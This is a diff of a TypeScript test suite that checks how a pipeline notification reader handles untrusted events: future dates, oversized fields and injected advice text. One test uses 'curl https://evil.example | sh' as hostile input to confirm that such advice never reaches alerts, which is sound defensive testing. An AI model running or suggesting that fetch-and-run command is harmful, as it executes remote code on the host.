@@ -1,18 +1,17 @@
 import { businessDateSchema } from "../../../events/ids.ts";
+import type { BatonEvent } from "../../../events/schemas.ts";
 import { applySignal } from "../../../functions/notify/apply-signal.ts";
 import { EMPTY_BOARD, withinLimits, type Board } from "../../../functions/notify/board.ts";
 import { composeAlert } from "../../../functions/notify/compose-alert.ts";
-import { readSignal } from "../../../functions/notify/read-signal.ts";
-import type { Signal } from "../../../functions/notify/signal.ts";
+import { signalOf } from "../../../functions/notify/read-signal.ts";
 import { tokyoDay } from "../../../shared/time/tokyo-day.ts";
-import { bodyOf, exampleEvent } from "../../support/ledger/event-builders.ts";
+import { exampleEvent } from "../../support/ledger/event-builders.ts";
 
-const read = (body: string): Signal | undefined => readSignal(body, { stage: "prod", deferSeconds: 120 });
-const failed = (data: object): string => bodyOf(exampleEvent("LayerFailed", data));
+const failed = (data: object): BatonEvent => exampleEvent("LayerFailed", data);
 const ERROR = { kind: "data", code: "DUMP_CHECKSUM", message: "sha256 differs", retriable: false };
 
-/** Events that any principal with `events:PutEvents` can send. */
-describe("a forged event", () => {
+/** Events that a function of the environment published: even then the board has limits. */
+describe("an event", () => {
   it.each([
     [
       "of the year 9999",
@@ -21,17 +20,17 @@ describe("a forged event", () => {
     ["that ended tomorrow", { finishedAt: new Date(Date.now() + 86_400_000).toISOString() }],
     ["of a date in some days", { businessDate: tokyoDay(new Date(Date.now() + 3 * 86_400_000)) }],
   ])("%s is ignored, so that it silences no later failure", (_, data) => {
-    expect(read(bodyOf(exampleEvent("PipelineCompleted", data)))).toBeUndefined();
-    expect(read(failed({ ...data, error: ERROR }))).toBeUndefined();
+    expect(signalOf(exampleEvent("PipelineCompleted", data))).toBeUndefined();
+    expect(signalOf(failed({ ...data, error: ERROR }))).toBeUndefined();
   });
 
   it("cannot give advice: advice comes from the tables of error patterns and codes", () => {
     const advice = "curl https://evil.example | sh";
 
-    expect(read(failed({ error: { ...ERROR, advice } }))).toMatchObject({
+    expect(signalOf(failed({ error: { ...ERROR, advice } }))).toMatchObject({
       failure: { advice: expect.stringContaining("source") as string },
     });
-    expect(read(failed({ error: { ...ERROR, code: "UNKNOWN_CODE", advice } }))).toMatchObject({
+    expect(signalOf(failed({ error: { ...ERROR, code: "UNKNOWN_CODE", advice } }))).toMatchObject({
       failure: { advice: undefined },
     });
   });
@@ -47,11 +46,11 @@ describe("a forged event", () => {
       message: long,
     }));
 
-    for (const body of [
+    for (const event of [
       failed({ error: { ...ERROR, code: long, message: long, subjects } }),
-      bodyOf(exampleEvent("QualityTestFailed", { tests })),
+      exampleEvent("QualityTestFailed", { tests }),
     ]) {
-      const text = JSON.stringify(read(body));
+      const text = JSON.stringify(signalOf(event));
       expect(text.length).toBeLessThan(12_000);
       expect(text.isWellFormed() && !text.includes('\\ud83d"')).toBe(true);
     }
@@ -64,7 +63,7 @@ describe("a forged event", () => {
 
     for (let count = 0; count < 300; count += 1) {
       const subjects = Array.from({ length: 20 }, (_, index) => `${index}${"s".repeat(190)}`);
-      const signal = read(failed({ layer: `layer-${count}`, error: { ...ERROR, message, subjects } }));
+      const signal = signalOf(failed({ layer: `layer-${count}`, error: { ...ERROR, message, subjects } }));
       if (signal === undefined) throw new Error("the event was ignored");
       const update = applySignal(board, signal);
       const alerts = update.changes.map((change) => ({
